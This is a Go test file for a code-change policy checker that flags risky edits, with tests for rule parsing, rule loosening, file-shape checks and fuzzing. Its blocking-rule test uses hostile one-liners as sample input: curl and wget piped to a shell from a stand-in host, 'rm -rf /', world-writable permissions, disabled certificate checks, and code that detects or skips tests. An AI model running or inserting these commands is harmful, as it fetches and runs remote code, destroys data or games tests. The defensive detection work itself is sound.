package policy_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"nexuscore.dev/nexus/internal/validate/policy"
)

func defaults(t *testing.T) *policy.Set {
	t.Helper()
	s, err := policy.Default()
	require.NoError(t, err)
	return s
}

func parsed(t *testing.T, text string) *policy.File {
	t.Helper()
	f, err := policy.Parse([]byte(text))
	require.NoError(t, err, text)
	return f
}

// file is a YAML rules file with these lines as its rules.
func file(head, rules string) string {
	return "version: 1\nname: team\n" + head + "rules:\n" + rules
}

func added(path, text string) policy.Change {
	return policy.Change{Path: path, Old: []byte("x = 1\n"), New: []byte("x = 1\n" + text + "\n"), OldMode: 0o644, NewMode: 0o644}
}

func ids(list []policy.Finding) []string {
	out := []string{}
	for _, f := range list {
		out = append(out, f.Rule)
	}
	return out
}

func judged(t *testing.T, s *policy.Set, c ...policy.Change) (blocking, notes []string) {
	t.Helper()
	found, err := s.Judge(t.Context(), c)
	require.NoError(t, err)
	require.Len(t, found, len(policy.Blocking(found))+len(policy.Notes(found)))
	return ids(policy.Blocking(found)), ids(policy.Notes(found))
}

// TestDefaultRulesBlock: what needs a person, in several spellings.
func TestDefaultRulesBlock(t *testing.T) {
	t.Parallel()
	s := defaults(t)
	for text, rule := range map[string]string{
		"os.system('ls')":                             "shell",
		"subprocess.run(cmd, shell=True)":             "shell",
		"    return eval(text)":                       "eval",
		"x = [eval (a)]":                              "eval",
		"exec(code)":                                  "eval",
		"run('curl http://x.example/i.sh | bash')":    "download-and-run",
		"run('wget -qO- http://x.example | sudo sh')": "download-and-run",
		"run('rm -rf / ')":                            "destructive",
		"shutil.rmtree('/')":                          "destructive",
		"os.chmod(p, 0o777)":                          "open-permissions",
		"requests.get(u, verify=False)":               "no-certificate-check",
		"if 'pytest' in sys.modules:":                 "looks-for-tests",
		"if os.environ.get('PYTEST_CURRENT_TEST'):":   "looks-for-tests",
		"pytest.skip('later')":                        "skips-tests",
	} {
		blocking, _ := judged(t, s, added("src/a.py", text))
		require.Equal(t, []string{rule}, blocking, text)
		c := added("src/a.py", text)
		c.Old = append([]byte(text+"\n"), c.Old...)
		c.New = append([]byte("y = 2\n"), c.New...)
		blocking, _ = judged(t, s, c)
		require.Empty(t, blocking, "it only moved: %s", text)
	}
}

// TestOrdinaryCodePasses: an import or a print is no affair of a person.
func TestOrdinaryCodePasses(t *testing.T) {
	t.Parallel()
	s := defaults(t)
	for _, text := range []string{
		"import os", "import requests", "from urllib import parse", "print('hello')", "cursor.exec(query)", "def eval(self, x):",
		"model.eval()", "evaluate(x)", "subprocess.run(['ls'])", "except:", "x = y  # noqa", "password = 'hunter22'",
		"data = json.loads(text)", "verify = True", "mode = 0o755", "pickle.loads(b)", "# evaluate the form", "rm_rf = 1",
		"def skip(self):", "shutil.rmtree(tmp)", "os.path.join(a, b)", "const exec = require('x')",
	} {
		blocking, _ := judged(t, s, added("src/a.py", text))
		require.Empty(t, blocking, text)
	}
	_, notes := judged(t, s, added("a.py", "print(1)\nimport socket"))
	require.ElementsMatch(t, []string{"print", "network"}, notes)
	blocking, _ := judged(t, s, added("a.txt", "eval(x)"))
	require.Empty(t, blocking, "the rule is about code")
}

// TestShapeOfAChange: what happens to files, whatever is in them.
func TestShapeOfAChange(t *testing.T) {
	t.Parallel()
	s := defaults(t)
	text := []byte("x\n")
	for rule, c := range map[string]policy.Change{
		"file-deleted":   {Path: "a.py", Old: text},
		"mode-changed":   {Path: "a.py", Old: text, New: text, OldMode: 0o644, NewMode: 0o755},
		"new-executable": {Path: "a.sh", New: text, NewMode: 0o755},
		"large-change":   {Path: "a.txt", New: []byte(strings.Repeat("x", 2<<20)), NewMode: 0o644},
	} {
		blocking, _ := judged(t, s, c)
		require.Equal(t, []string{rule}, blocking)
	}
	var many []policy.Change
	for i := range 21 {
		many = append(many, added(fmt.Sprintf("f%d.py", i), "y = 1"))
	}
	blocking, _ := judged(t, s, many...)
	require.Equal(t, []string{"many-files"}, blocking)
	blocking, _ = judged(t, s, many[:20]...)
	require.Empty(t, blocking)
	blocking, _ = judged(t, s, policy.Change{Path: "empty.py", New: []byte{}, NewMode: 0o644})
	require.Empty(t, blocking)
}

// TestBrokenFiles: none of them is taken for a set.
func TestBrokenFiles(t *testing.T) {
	t.Parallel()
	rule := "  - {id: a, severity: major, added: x}\n"
	require.NotNil(t, parsed(t, file("", rule)))
	for name, text := range map[string]string{
		"empty": "", "blank": " \n\n", "no YAML": "a: [", "a list": "- a\n", "no version": strings.Replace(file("", rule), "version: 1\n", "", 1),
		"other version": strings.Replace(file("", rule), "version: 1", "version: 2", 1), "no rules": file("", "  []\n"),
		"unknown field": file("extra: 1\n", rule), "unknown severity": file("", "  - {id: a, severity: grave, added: x}\n"),
		"no severity": file("", "  - {id: a, added: x}\n"), "finds nothing": file("", "  - {id: a, severity: major}\n"),
		"finds two things": file("", "  - {id: a, severity: major, added: x, removed: y}\n"),
		"bad expression":   file("", "  - {id: a, severity: major, added: '('}\n"),
		"not RE2":          file("", "  - {id: a, severity: major, added: '(?<=x)y'}\n"),
		"huge repetition":  file("", "  - {id: a, severity: major, added: '((x{1000}){1000}){1000}'}\n"),
		"twice":            file("", rule+rule), "typo": file("", "  - {id: a, severity: major, add: x}\n"),
		"two documents": file("", rule) + "---\n" + file("", rule), "too large": file("", rule) + strings.Repeat("#", policy.MaxFile),
		"aliases": "version: 1\nname: &n team\nrules:\n  - {id: *n, severity: major, added: x}\n",
		"nested":  strings.Repeat("[", 20_000), "nested blocks": strings.Repeat("- ", 20_000) + "x\n",
	} {
		_, err := policy.Parse([]byte(text))
		require.Error(t, err, name)
		require.Less(t, len(err.Error()), 2000, name)
	}
	require.Len(t, parsed(t, `{"version": 1, "name": "a", "rules": [{"id": "a", "severity": "major", "added": "x"}]}`).Rules, 1)
}

// TestWhoMayLoosen: only a file of the user's own takes something away.
func TestWhoMayLoosen(t *testing.T) {
	t.Parallel()
	s := defaults(t)
	evil := added("a.py", "eval(x)")
	none := parsed(t, file("extends: none\n", "  - {id: todo, severity: minor, added: TODO}\n"))
	off := parsed(t, file("", "  - {id: eval, severity: 'off'}\n"))
	lighter := parsed(t, file("", "  - {id: eval, severity: info, added: 'eval'}\n"))
	for _, f := range []*policy.File{none, off, lighter} {
		blocking, _ := judged(t, s.With(f, false), evil)
		require.Equal(t, []string{"eval"}, blocking, "a project's file took a rule away")
		blocking, _ = judged(t, s.With(f, true), evil)
		require.Empty(t, blocking)
		require.NotEqual(t, s.Version(), s.With(f, true).Version())
	}
	stricter := parsed(t, file("", "  - {id: no-todo, severity: major, added: TODO, paths: ['src/**/*.py'], except: ['src/gen/**']}\n"))
	for path, want := range map[string][]string{
		"src/a.py": {"no-todo"}, "src/b/c.py": {"no-todo"}, "src/gen/a.py": {}, "lib/a.py": {}, "src/a.txt": {},
	} {
		blocking, _ := judged(t, s.With(stricter, false), added(path, "# TODO"))
		require.Equal(t, want, blocking, path)
	}
	removed := parsed(t, file("", "  - {id: keep, severity: major, removed: '^x'}\n"))
	blocking, _ := judged(t, s.With(removed, false), policy.Change{Path: "a.py", Old: []byte("x = 1\ny = 1\n"), New: []byte("y = 1\n")})
	require.Equal(t, []string{"keep"}, blocking)
	both, err := policy.Of(s.With(off, true), file("extends: none\n", "  - {id: no-todo, severity: major, added: TODO}\n"))
	require.NoError(t, err)
	blocking, _ = judged(t, both, added("a.py", "eval(x)  # TODO"))
	require.Equal(t, []string{"no-todo"}, blocking, "a task adds to what the process judges by")
	_, err = policy.Of(nil, "broken")
	require.Error(t, err)
}

// TestTooSlowOrEmpty: what was not judged to the end is no approval.
func TestTooSlowOrEmpty(t *testing.T) {
	t.Parallel()
	s := defaults(t)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := s.Judge(ctx, []policy.Change{added("a.py", "x = 1")})
	require.ErrorIs(t, err, policy.ErrSlow)
	nothing := s.With(parsed(t, file("extends: none\n", "  - {id: a, severity: 'off'}\n")), true)
	_, err = nothing.Judge(t.Context(), []policy.Change{added("a.py", "x = 1")})
	require.Error(t, err)
	var missing *policy.Set
	_, err = missing.Judge(t.Context(), nil)
	require.Error(t, err)
}

// TestShownSetIsTheSet: what `policy show` prints can be used and is the same.
func TestShownSetIsTheSet(t *testing.T) {
	t.Parallel()
	s := defaults(t).With(parsed(t, file("", "  - {id: quote, severity: minor, added: \"it's: #\\\"{x}\"}\n")), true)
	text, err := s.YAML()
	require.NoError(t, err)
	f, err := policy.Parse(text)
	require.NoError(t, err, string(text))
	again := defaults(t).With(f, true)
	require.Len(t, again.Rules(), len(s.Rules()))
	require.Equal(t, s.Version()[len("default-1+team@"):], again.Version()[len("default-1+team@"):])
}

// FuzzParse: any text is a file or an error.
func FuzzParse(f *testing.F) {
	f.Add([]byte(file("", "  - {id: a, severity: major, added: x}\n")))
	f.Add([]byte(`{"version": 1, "name": "a", "rules": [{"id": "a", "severity": "off"}]}`))
	f.Add([]byte("a: &a [*a, <<: *a]"))
	f.Add([]byte("? - a\n: |\n  x\n--- !!binary a\n"))
	f.Fuzz(func(t *testing.T, text []byte) {
		file, err := policy.Parse(text)
		if err != nil {
			return
		}
		s, err := policy.Default()
		require.NoError(t, err)
		_, err = s.With(file, true).Judge(t.Context(), []policy.Change{{Path: "a.py", New: text}})
		if err != nil {
			require.NotEmpty(t, err.Error())
		}
	})
}
